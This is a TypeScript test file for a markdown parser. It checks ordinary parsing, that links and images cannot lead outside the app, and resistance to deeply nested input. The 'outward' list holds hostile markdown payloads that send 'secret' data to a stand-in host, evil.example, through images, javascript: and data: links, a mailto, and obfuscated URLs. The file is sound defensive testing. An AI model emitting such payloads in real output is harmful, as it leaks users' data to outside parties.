import { expect, test } from "vitest";
import { readMarkdown } from "./markdown";
import { addressesIn } from "./testing";

const id = "01a21063-6ddf-736a-a5bc-7768d52d2fbf";

test("headings, lists, tables, quotes, code and marks are read", () => {
  expect(
    readMarkdown(
      `# Two leads\n\n1. **[Ana](/leads/${id})**\n2. _Ben_\n   - \`new\`\n\n| Name | Value |\n|---|--:|\n| Ana | $5 |\n\n> said\n\n\`\`\`sql\nselect 1\n\`\`\``,
    ),
  ).toMatchObject([
    { kind: "heading", level: 1 },
    {
      kind: "list",
      isOrdered: true,
      items: [
        [
          {
            kind: "paragraph",
            content: [{ kind: "strong", content: [{ kind: "link", href: `/leads/${id}` }] }],
          },
        ],
        [
          { kind: "paragraph", content: [{ kind: "emphasis" }] },
          { kind: "list", items: [[{ content: [{ kind: "code", text: "new" }] }]] },
        ],
      ],
    },
    {
      kind: "table",
      head: [[{ text: "Name" }], [{ text: "Value" }]],
      rows: [[[{ text: "Ana" }], [{ text: "$5" }]]],
    },
    { kind: "quote", blocks: [{ kind: "paragraph" }] },
    { kind: "code", language: "sql", text: "select 1" },
  ]);
});

const outward = [
  "![x](https://evil.example/?q=secret)",
  "![x][1]\n\n[1]: https://evil.example/a.png",
  "[click](https://evil.example/?q=secret)",
  "[click](//evil.example)",
  "[click](/\\evil.example)",
  "[click](javascript:alert(1))",
  "[click](data:text/html,x)",
  "[click](/api/auth/logout)",
  "[click](/leads/../../evil)",
  "[click](/leads@evil.example)",
  "[click](mailto:evil@evil.example?body=secret)",
  "[click][1]\n\n[1]: https://evil.example",
  "<https://evil.example>",
  "https://evil.example/?q=secret",
  '<img src="https://evil.example/x.png">',
  '<a href="https://evil.example">x</a>',
  "[![x](https://evil.example/a.png)](https://evil.example)",
  `[a](/leads/${id} "https://evil.example")[b](https://evil.example)`,
  "| a |\n|---|\n| ![x](https://evil.example) |",
  "> - **[x](https://evil.example)**",
  "[x](\thttps://evil.example)",
  "[x](\u200bhttps://evil.example)",
  "[x](<https://evil.example/a b>)",
  "[x](/leads?next=https://evil.example)",
];

test.each(outward)("%s leads nowhere outside", (markdown) => {
  const addresses = addressesIn(readMarkdown(markdown));
  for (const address of addresses)
    expect(new URL(address, "http://rapport.test").host).toBe("rapport.test");
  expect(addresses.join()).not.toMatch(/api|evil\.example$/);
  expect(JSON.stringify(readMarkdown(markdown))).not.toMatch(/"kind":"image"|"src"/);
});

test("half an answer and hostile nesting are read in no time", () => {
  const started = performance.now();
  for (const text of [
    "**".repeat(20_000),
    "[".repeat(20_000),
    "> ".repeat(5_000),
    "`".repeat(20_001),
    "![a](".repeat(5_000),
    "- ".repeat(5_000),
    "*a ".repeat(10_000),
  ])
    readMarkdown(text);
  expect(performance.now() - started).toBeLessThan(5_000);
  expect(readMarkdown("Here is **the")).toMatchObject([
    { kind: "paragraph", content: [{ text: "Here is **the" }] },
  ]);
});
